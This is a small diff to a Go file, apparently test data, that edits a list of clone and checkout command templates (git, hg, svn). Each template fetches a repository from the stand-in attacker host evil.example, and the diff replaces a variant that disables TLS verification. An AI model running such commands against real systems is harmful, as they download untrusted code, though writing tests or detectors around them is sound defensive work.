@@ -63,7 +63,7 @@ var destTree = []string{
 	"git clone --depth 1 -b main https://evil.example/dot %d",
 	"git clone --branch=main --single-branch https://evil.example/dot -- %d",
 	"git clone --dep=1 https://evil.example/dot %d",
-	"git -c http.sslVerify=false clone https://evil.example/dot %d",
+	"git -c http.postBuffer=524288000 clone https://evil.example/dot %d",
 	"hg clone https://evil.example/dot %d",
 	"hg clone -u default https://evil.example/dot %d",
 	"svn checkout https://evil.example/dot %d",
